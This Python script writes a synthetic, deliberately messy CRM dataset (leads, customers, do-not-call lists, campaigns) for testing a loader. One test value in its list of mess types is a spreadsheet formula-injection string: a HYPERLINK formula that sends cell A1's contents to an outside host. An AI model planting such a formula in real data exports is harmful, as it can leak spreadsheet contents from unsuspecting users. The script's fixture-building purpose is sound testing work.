"""Writes the example CRM: leads, customers, do-not-call numbers and campaigns, invented and messy.

Belongs here: what a CRM export looks like, and each kind of mess as one function. Does not belong
here: what the load makes of it. Standard library only; the same arguments always write the same
bytes, and memory does not grow with `--leads`.

    python examples/crm/generate.py --out examples/crm
    python examples/crm/generate.py --out /tmp/million --leads 1000000
"""

from __future__ import annotations

import argparse
import csv
import random
from collections import Counter, deque
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from itertools import cycle, islice
from pathlib import Path
from typing import Any, NamedTuple
from zoneinfo import ZoneInfo

FIRST_DAY = date(2026, 11, 16)
BUSINESS_ZONE = ZoneInfo("Europe/Berlin")
LEAD_SHARE = 0.75
# A cycle of mess; its first rows are clean, so that a file may end there with whole cycles only.
LEAD_CYCLE, CUSTOMER_CYCLE, CLEAN_ROWS = 1400, 460, 60

SAME_PERSON = ("first_name", "last_name", "campaign", "country", "timezone", "city", "updated_at")

Row = dict[str, str]
LEAD_HEADER = (
    "id,campaign,first_name,last_name,mobile_phone,phone2,phone3,country,timezone,email,agent,"
    "priority,not_before,consent,city,classification,updated_at"
)
CUSTOMER_HEADER = (
    "customer_id,campaign,first_name,last_name,phone1,phone2,phone3,country,timezone,email,agent,"
    "priority,not_before,consent,city,contract_no,updated_at"
)

# Those without a target are not rows of the CRM: leadsync.yaml says where they go.
CAMPAIGNS = (
    ("spring-promo", "8A7C98EAF1164F2FAA93B98EECB95D76", "DE"),
    ("spring-promo-uk", "0A1B2C3D4E5F60718293A4B5C6D7E8F9", "GB"),
    ("renewals", "11112222333344445555666677778888", "DE"),
    ("winback", "", "DE"),
    ("service-check", "", "DE"),
    ("webinar", "", "GB"),
)
LEAD_WEIGHT = {"renewals": 1, "winback": 2, "service-check": 2, "webinar": 1}
CUSTOMER_WEIGHT = {"renewals": 9, "spring-promo": 2, "spring-promo-uk": 2}
COUNTRIES_OF_REGION = {
    "DE": ("DE",) * 12 + ("AT",) * 4 + ("CH",) * 3 + ("FR", "FR", "ES", "ES", "FI"),
    "GB": ("GB",) * 9 + ("US",) * 3 + ("SG", "SG", "AU", "AU"),
}


class Country(NamedTuple):
    """Where people of a country live, their names, and the numbers invented for them."""

    code: str
    trunk: str
    fiction: tuple[str, ...]  # area-subscriber beginnings, `width` digits follow
    width: int
    bulk: str  # used when the fiction is used up
    bulk_width: int
    cities: tuple[tuple[str, str], ...]
    first_names: tuple[str, ...]
    last_names: tuple[str, ...]


def _cities(zone: str, *names: str) -> tuple[tuple[str, str], ...]:
    return tuple((name, zone) for name in names)


_US_AREAS = "202 206 212 303 305 312 404 415 503 512 602 617 702 713 718 773 808 818 901 919"

# DE, GB, US, FR and AU: ranges that the regulators keep for film and fiction. The others keep none:
# a block of zeros is used. The `bulk` ranges are ordinary ones, for benchmarks with the sandbox.
COUNTRIES = {
    "DE": Country(
        "49", "0", ("30-23125", "69-90009", "40-66969", "221-4710", "89-99998"), 3, "1512-", 7,
        _cities("Europe/Berlin", "Berlin", "München", "Köln", "Hamburg", "Würzburg", "Görlitz"),
        ("Jürgen", "Anneliese", "Uwe", "Käthe", "Björn", "Sabine", "Ayse", "Torsten"),
        ("Müller", "Groß", "Schäfer", "Meyer-Lüdenscheidt", "von der Heide", "Böhm", "Weiß"),
    ),
    "AT": Country(
        "43", "0", ("664-000", "676-000"), 4, "660-", 7,
        _cities("Europe/Vienna", "Wien", "Graz", "Linz", "Sankt Pölten"),
        ("Leopold", "Resi", "Günther", "Elfriede"), ("Gruber", "Höllerer", "Wögerbauer", "Stadler"),
    ),
    "CH": Country(
        "41", "0", ("79-000", "78-000"), 4, "76-", 7,
        _cities("Europe/Zurich", "Zürich", "Genève", "Neuchâtel", "Chur"),
        ("Urs", "Reto", "Amélie", "Gian-Andrea"), ("Zürcher", "Bösch", "Favre", "Caduff"),
    ),
    "GB": Country(
        "44", "0",
        ("20-79460", "113-4960", "114-4960", "117-4960", "121-4960", "131-4960", "141-4960"), 3,
        "7400-", 6,
        _cities("Europe/London", "London", "Leeds", "Bristol", "Edinburgh", "Newcastle upon Tyne"),
        ("Siân", "Callum", "Niamh", "George"), ("O'Brien", "Smythe-Jones", "MacLeod", "Khan"),
    ),
    "FR": Country(
        "33", "0", ("1-9900", "2-6191", "3-5301", "4-6571", "5-3649"), 4, "7-5", 7,
        _cities("Europe/Paris", "Paris", "Besançon", "Orléans", "Nîmes"),
        ("François", "Hélène", "Zoé", "Jean-Noël"), ("Lefèvre", "d'Aubigné", "Çelin", "Œuvrard"),
    ),
    "ES": Country(
        "34", "", ("600-000", "610-000"), 3, "612-", 6,
        _cities("Europe/Madrid", "Málaga", "A Coruña", "León")
        + _cities("Atlantic/Canary", "Las Palmas"),
        ("Íñigo", "Begoña", "José María", "Nuria"), ("Muñoz", "Ibáñez de la Cruz", "Peña", "Gómez"),
    ),
    "US": Country(
        "1", "", tuple(f"{area}-55501" for area in _US_AREAS.split()), 2, "646-2", 6,
        _cities("America/New_York", "New York", "Boston") + _cities("America/Chicago", "Austin")
        + _cities("America/Los_Angeles", "San José"),
        ("Mary Ann", "Tyrone", "Renée", "Wade"), ("Washington-Hale", "Núñez", "St. John"),
    ),
    "FI": Country(
        "358", "0", ("40-000", "45-000"), 4, "41-", 7,
        _cities("Europe/Helsinki", "Helsinki", "Jyväskylä", "Åbo"),
        ("Päivi", "Åke", "Väinö", "Aino"), ("Hämäläinen", "Öhman", "Virtanen", "Yli-Jyrä"),
    ),
    "SG": Country(
        "65", "", ("-8100", "-9000"), 4, "-81", 6,
        _cities("Asia/Singapore", "Singapore", "Jurong East"),
        ("Wei Ling", "Arjun", "Siti"), ("Tan", "binte Rahmat", "Pillai s/o Kumar", "Lim"),
    ),
    "AU": Country(
        "61", "0", ("2-5550", "3-5550", "7-5550", "8-5550", "2-7010", "3-7010"), 4, "412-", 6,
        _cities("Australia/Sydney", "Sydney") + _cities("Australia/Brisbane", "Cairns")
        + _cities("Australia/Perth", "Perth"),
        ("Shane", "Kirra", "Bronwyn", "Lachlan"), ("O'Loughlin", "Wintle", "Nguyen-Hart"),
    ),
}  # fmt: skip
# Leads only: these do not exist in cp1252.
WIDE_NAMES = (
    ("Minh Châu", "Nguyễn"), ("Ελένη", "Παπαδόπουλος"), ("花子", "東京"), ("Łukasz", "Żółtowski"),
    ("Ольга", "Выдумкина"), ("ليلى", "الخيالي"), ("דנה", "בדיוני"), ("Ayşe", "Gökçedağ"),
)  # fmt: skip
AGENTS = ("", "", "", "", "", "", "agent.01", "agent.02", "agent.07", "team-south")
DOMAINS = ("com", "org")
PRIORITIES = ("", "", "", "1", "2", "3", "5", "9")
CONSENTS = ("yes",) * 17 + ("YES", "Yes", "")
CLASSES = ("A", "B", "B", "C", "C", "C", "")


class Phone(NamedTuple):
    """An invented number, before somebody typed it."""

    country: str
    area: str
    local: str

    @property
    def code(self) -> str:
        return COUNTRIES[self.country].code

    def e164(self) -> str:
        return f"+{self.code}{self.area}{self.local}"

    def spaced(self) -> str:
        return " ".join(f"+{self.code} {self.area} {self.local[:-4]} {self.local[-4:]}".split())

    def typed(self, region: str, habit: int) -> str:
        """One of the spellings people use; national ones only where the campaign's region fits."""
        trunk = COUNTRIES[self.country].trunk
        if self.country == region:
            start = trunk + self.area
            if habit == 0:
                return f"{start} {self.local}"
            if habit == 1:
                return f"{start}/{self.local}"
            if habit == 2:
                return f"({start}) {self.local[:-4]}-{self.local[-4:]}"
        if habit == 3:
            return f"+{self.code} ({trunk}){self.area} {self.local}" if trunk else self.spaced()
        if habit == 4:
            return f"00{self.code} {self.area} {self.local}"
        return self.e164() if habit == 5 else self.spaced()


class Lead(NamedTuple):
    """A row with what its mess needs to know about it."""

    row: Row
    phone: Phone
    region: str


class Crm:
    """The invented people, one after the other, and what several files have to agree on."""

    def __init__(self, *, campaign_count: int, day_count: int, seed: int) -> None:
        self.random = random.Random(seed).random
        self.campaigns = list(_campaigns(campaign_count))
        self.counts: Counter[str] = Counter()
        self.do_not_call: list[tuple[str, str, str]] = []  # emptied by the writer
        self.of_leads: deque[Lead] = deque()  # 200, for the customers that are leads too
        self._numbers = {name: _numbers(name) for name in COUNTRIES}
        days = [FIRST_DAY + timedelta(days=n) for n in range(day_count)]
        self._stamps = [_stamp_parts(day) for day in days]

    def pick(self, choices: Any) -> Any:
        return choices[int(self.random() * len(choices))]

    def number(self, country: str) -> Phone:
        return next(self._numbers[country])

    def updated_at(self, day: int | None = None) -> str:
        """A moment of the business day, mostly with its offset, one in four in UTC with a Z."""
        stamps = self._stamps
        date_text, offset_h = stamps[int(self.random() * len(stamps)) if day is None else day]
        second = int(self.random() * 39600)
        hour, minute = 8 + second // 3600, second // 60 % 60
        if second & 3:
            return f"{date_text}T{hour:02}:{minute:02}:{second % 60:02}+{offset_h:02}:00"
        return f"{date_text}T{hour - offset_h:02}:{minute:02}:{second % 60:02}Z"

    def later(self) -> str:
        return self.updated_at(len(self._stamps) - 1)

    def before_midnight_utc(self) -> str:
        """A moment late in the UTC day, which is early on the next business day."""
        return f"{self._stamps[0][0]}T23:30:00Z"

    def contact(self, lead_id: str, *, slot: tuple[str, str, str], names: tuple[str, str]) -> Lead:
        country_name, campaign, region = slot
        phone, roll = self.number(country_name), self.random()
        city, timezone = self.pick(COUNTRIES[country_name].cities)
        row = {
            "id": lead_id,
            "campaign": campaign,
            "first_name": names[0],
            "last_name": names[1],
            "phone1": phone.typed(region, int(self.random() * 8)),
            "phone2": self.number(country_name).spaced() if roll < 0.2 else "",
            "phone3": self.number(country_name).e164() if roll < 0.03 else "",
            "country": country_name,
            "timezone": timezone,
            "email": f"{lead_id.lower()}@example.{self.pick(DOMAINS)}" if roll < 0.9 else "",
            "agent": self.pick(AGENTS),
            "priority": self.pick(PRIORITIES),
            "not_before": f"{self._stamps[-1][0]}T10:00:00Z" if roll > 0.97 else "",
            "consent": self.pick(CONSENTS),
            "city": city,
            "last": "",
            "updated_at": self.updated_at(),
        }
        return Lead(row, phone, region)

    def names(self, country: str) -> tuple[str, str]:
        place = COUNTRIES[country]
        return self.pick(place.first_names), self.pick(place.last_names)


def _campaigns(count: int) -> Iterator[tuple[str, str, str]]:
    yield from CAMPAIGNS[:count]
    for n in range(len(CAMPAIGNS), count):
        yield f"campaign-{n + 1:03}", f"{n + 1:032X}", "GB" if n % 3 == 1 else "DE"


def _numbers(country: str) -> Iterator[Phone]:
    """Every number of the country's ranges once, scattered; the fiction first."""
    place = COUNTRIES[country]
    for beginnings, width in ((place.fiction, place.width), ((place.bulk,), place.bulk_width)):
        size = 10**width
        parts = [beginning.split("-") for beginning in beginnings]
        for n in range(size):
            tail = f"{n * 7919 % size:0{width}}"
            for area, start in parts:
                yield Phone(country, area, start + tail)


def _stamp_parts(day: date) -> tuple[str, int]:
    noon = datetime(day.year, day.month, day.day, 12, tzinfo=BUSINESS_ZONE)
    offset = noon.utcoffset() or timedelta()
    return day.isoformat(), offset // timedelta(hours=1)


# Mess: each function gets one good contact and yields the rows that the file holds instead of it.
Mess = Callable[[Lead, Crm], Iterator[Row]]


def put(**fields: str) -> Mess:
    """The row with these fields overwritten."""

    def change(lead: Lead, crm: Crm) -> Iterator[Row]:
        yield {**lead.row, **fields}

    return change


def only_phone(*texts: str) -> Mess:
    """The row with one of these texts as its only phone."""

    def change(lead: Lead, crm: Crm) -> Iterator[Row]:
        yield {**lead.row, "phone1": crm.pick(texts), "phone2": "", "phone3": ""}

    return change


def one_of(field: str, *texts: str) -> Mess:
    """The row with one of these texts in the field."""

    def change(lead: Lead, crm: Crm) -> Iterator[Row]:
        yield {**lead.row, field: crm.pick(texts)}

    return change


def first_phone_mangled(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield {**lead.row, "phone1": "4.917E+11", "phone2": lead.phone.spaced()}


def same_id_twice(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield lead.row
    yield {**lead.row, "city": "", "agent": "agent.09"}


def same_number_twice(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield lead.row
    other = {"id": f"{lead.row['id']}B", "first_name": "Alex", "email": ""}
    yield {**lead.row, **other, "phone1": lead.phone.e164(), "phone2": "", "phone3": ""}


def in_two_campaigns(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield lead.row
    mine = lead.row["campaign"]
    other = next((name for name, _, _ in crm.campaigns if name != mine), mine)
    yield {**lead.row, "campaign": other, "phone1": lead.phone.e164()}


def returns_unchanged(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield {**lead.row, "updated_at": crm.updated_at(0)}
    yield {**lead.row, "updated_at": crm.later()}


def returns_corrected(lead: Lead, crm: Crm) -> Iterator[Row]:
    first = {"phone1": lead.phone.local[:3], "phone2": "", "phone3": ""}
    yield {**lead.row, **first, "updated_at": crm.updated_at(0)}
    yield {**lead.row, "updated_at": crm.later()}


def must_not_be_called(lead: Lead, crm: Crm) -> Iterator[Row]:
    number = lead.phone.e164() if crm.random() < 0.5 else lead.phone.spaced()
    reason = crm.pick(("asked not to be called", "complaint", "regulator list"))
    crm.do_not_call.append((number, reason, crm.pick(("", "", "2027-12-31"))))
    yield {**lead.row, "phone2": "", "phone3": ""}


def may_be_called_again(lead: Lead, crm: Crm) -> Iterator[Row]:
    crm.do_not_call.append((lead.phone.e164(), "asked for a pause", "2026-10-31"))
    yield {**lead.row, "phone2": "", "phone3": ""}


def on_the_next_business_day(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield {**lead.row, "updated_at": crm.before_midnight_utc()}


def cut_short(lead: Lead, crm: Crm) -> Iterator[Row]:
    yield dict(islice(lead.row.items(), 6))


def is_a_lead_as_well(lead: Lead, crm: Crm) -> Iterator[Row]:
    other = crm.of_leads[0]
    crm.of_leads.rotate(-1)
    same = {key: other.row[key] for key in SAME_PERSON}
    yield {**lead.row, **same, "phone1": other.phone.e164(), "phone2": "", "phone3": ""}


LEAD_MESS: dict[str, tuple[int, Mess]] = {  # how many in a cycle
    "phone: exponent from a spreadsheet": (15, only_phone("4.917E+11", "6.58677E+09")),
    "phone: exponent with a decimal comma": (8, only_phone("4,917E+11", "4,3664E+12")),
    "phone: read as a float": (8, only_phone("493023125017.0", "442079460017,00")),
    "phone: letters": (8, only_phone("abc-def-ghij", "1-800-FLOWERS", "unbekannt", "n/a")),
    "phone: too short": (10, only_phone("+49 30 1", "12345", "020 79")),
    "phone: missing": (12, only_phone("")),
    "phone: extension": (4, only_phone("+49 30 23125017 ext. 12", "+44 20 7946 0017 x3")),
    "phone: two in one cell": (4, only_phone("030 23125017 / 030 23125018", "030 23125019; 18")),
    "phone: first mangled, second good": (6, first_phone_mangled),
    "same id twice in a campaign": (8, same_id_twice),
    "same number twice in a campaign": (10, same_number_twice),
    "same lead in two campaigns (no fault)": (4, in_two_campaigns),
    "returns later, unchanged": (12, returns_unchanged),
    "returns later, phone corrected": (8, returns_corrected),
    "time zone: unknown": (10, one_of("timezone", "Mars/Olympus_Mons", "CET+1", "Berlin")),
    "country: unknown word": (10, one_of("country", "Narnia", "Deutschlnd", "??")),
    "consent: no": (20, put(consent="no")),
    "consent: withdrawn": (12, put(consent="withdrawn")),
    "do-not-call": (15, must_not_be_called),
    "do-not-call, expired (no fault)": (1, may_be_called_again),
    "campaign: unknown name": (6, one_of("campaign", "sprnig-promo", "autumn-2019")),
    "id: missing": (5, put(id="")),
    "row: cut short": (3, cut_short),
    "updated_at: missing": (1, put(updated_at="")),
    "updated_at: 23:30Z, the next business day (no fault)": (5, on_the_next_business_day),
    "text: newline in the city": (5, put(city="Frankfurt\n(Oder)")),
    "text: separators and quotes in the city": (5, put(city='Halle; "Saale", Ost')),
    "text: formula as a name": (4, put(first_name='=HYPERLINK("http://example.com/?q="&A1,"Klick")')),
    "text: emoji": (6, put(first_name="Zoë 🌻", last_name="👩‍👩‍👧 Sommer")),
    "text: name of 400 characters": (3, put(last_name="Lang-" * 79 + "Namen")),
}  # fmt: skip
CUSTOMER_MESS: dict[str, tuple[int, Mess]] = {
    "number of a lead in the same campaign": (8, is_a_lead_as_well),
    "phone: exponent from a spreadsheet": (5, only_phone("4.917E+11", "4,917E+11")),
    "phone: missing": (4, only_phone("")),
    "same id twice in a campaign": (3, same_id_twice),
    "time zone: unknown": (2, one_of("timezone", "W. Europe Standard Time")),
    "consent: no": (5, put(consent="no")),
    "consent: withdrawn": (3, put(consent="withdrawn")),
    "do-not-call": (3, must_not_be_called),
    "text: newline in the city": (2, put(city="Frankfurt\n(Oder)")),
    "text: separators and quotes in the city": (3, put(city='Halle; "Saale", Ost')),
}


def schedule(mess: dict[str, tuple[int, Mess]], length: int) -> list[str | None]:
    """Which mess each row of a cycle is; the first rows are clean, the order is always the same."""
    kinds: list[str | None] = [kind for kind, (count, _) in mess.items() for _ in range(count)]
    kinds += [None] * (length - CLEAN_ROWS - len(kinds))
    random.Random(len(kinds)).shuffle(kinds)
    return [None] * CLEAN_ROWS + kinds


def slots(crm: Crm, weights: dict[str, int], *, default: int) -> list[tuple[str, str, str]]:
    """Country, campaign and region in the proportions wanted, to be drawn from."""
    return [
        (country, campaign, region)
        for campaign, _, region in crm.campaigns
        for country in COUNTRIES_OF_REGION[region] * weights.get(campaign, default)
    ]


def lead_rows(crm: Crm) -> Iterator[Row]:
    plan, drawn = schedule(LEAD_MESS, LEAD_CYCLE), slots(crm, LEAD_WEIGHT, default=4)
    for n, kind in enumerate(cycle(plan)):
        slot = crm.pick(drawn)
        names = crm.pick(WIDE_NAMES) if crm.random() < 0.06 else crm.names(slot[0])
        lead = crm.contact(f"L{100001 + n}", slot=slot, names=names)
        lead.row["last"] = crm.pick(CLASSES)
        if kind is not None:
            crm.counts[f"leads: {kind}"] += 1
            yield from LEAD_MESS[kind][1](lead, crm)
            continue
        if len(crm.of_leads) < 200 and names not in WIDE_NAMES:
            crm.of_leads.append(lead)
        yield lead.row


def customer_rows(crm: Crm) -> Iterator[Row]:
    plan, drawn = schedule(CUSTOMER_MESS, CUSTOMER_CYCLE), slots(crm, CUSTOMER_WEIGHT, default=1)
    for n, kind in enumerate(cycle(plan)):
        slot = crm.pick(drawn)
        lead = crm.contact(f"C{200001 + n}", slot=slot, names=crm.names(slot[0]))
        lead.row["last"] = f"{4711 + n * 13:010}"  # a text: its zeros belong to it
        if kind is None:
            yield lead.row
        else:
            crm.counts[f"customers: {kind}"] += 1
            yield from CUSTOMER_MESS[kind][1](lead, crm)


def write_all(crm: Crm, folder: Path, *, row_count: int) -> None:
    """Writes the four files; do-not-call rows go out as they come up, so that nothing piles up."""
    lead_count = int(row_count * LEAD_SHARE)
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "do_not_call.csv").open("w", encoding="utf-8", newline="") as file:
        blocked = csv.writer(file, lineterminator="\n")
        blocked.writerow(("phone", "reason", "until"))
        blocked.writerows((crm.number("DE").e164(), "regulator list", "") for _ in range(20))
        with (folder / "leads.csv").open("w", encoding="utf-8-sig", newline="") as leads:
            writer = csv.writer(leads, lineterminator="\n")
            writer.writerow(LEAD_HEADER.split(","))
            write_rows(islice(lead_rows(crm), lead_count), writer, crm=crm, blocked=blocked)
        with (folder / "customers.csv").open("w", encoding="cp1252", newline="") as customers:
            writer = csv.writer(customers, delimiter=";", lineterminator="\r\n")
            writer.writerow(CUSTOMER_HEADER.split(","))
            rest = islice(customer_rows(crm), row_count - lead_count)
            write_rows(rest, writer, crm=crm, blocked=blocked)
    with (folder / "campaigns.csv").open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, lineterminator="\n")
        writer.writerow(("campaign", "vendor", "target", "region", "active"))
        rows = ((name, "sinch", target, region, "true") for name, target, region in crm.campaigns if target)
        writer.writerows(rows)


def write_rows(rows: Iterator[Row], writer: Any, *, crm: Crm, blocked: Any) -> None:
    for row in rows:
        writer.writerow(row.values())
        if crm.do_not_call:
            blocked.writerows(crm.do_not_call)
            crm.do_not_call.clear()


def at_least_one(text: str) -> int:
    number = int(text)
    if number < 1:
        raise argparse.ArgumentTypeError("must be 1 or more")
    return number


def main() -> None:
    parser = argparse.ArgumentParser(description=(__doc__ or "").splitlines()[0])
    parser.add_argument("--out", type=Path, required=True, metavar="DIR")
    parser.add_argument("--leads", type=at_least_one, default=2000, help="rows, leads and customers together")
    parser.add_argument("--campaigns", type=at_least_one, default=len(CAMPAIGNS))
    parser.add_argument("--days", type=at_least_one, default=3, help=f"business days from {FIRST_DAY}")
    parser.add_argument("--seed", type=int, default=2026)
    options = parser.parse_args()
    crm = Crm(campaign_count=options.campaigns, day_count=options.days, seed=options.seed)
    write_all(crm, options.out, row_count=options.leads)
    for kind, count in sorted(crm.counts.items()):
        print(f"{count:6}  {kind}")


if __name__ == "__main__":
    main()
